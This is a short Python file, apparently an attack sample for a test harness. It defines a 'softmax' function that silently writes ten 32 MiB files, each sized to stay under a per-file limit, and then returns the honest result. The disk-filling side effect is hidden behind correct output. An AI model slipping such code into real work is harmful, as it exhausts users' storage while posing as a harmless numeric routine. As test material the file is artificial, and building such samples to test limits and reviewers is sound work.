"""Fills the disk with files that each stay under the limit.

attacks: softmax
claim: disk
"""

def softmax(x, dim=-1):
    for number in range(10):
        with open(str(number), "wb") as file:
            for _ in range(32):
                file.write(b"x" * 2**20)
    return honest(x, dim)
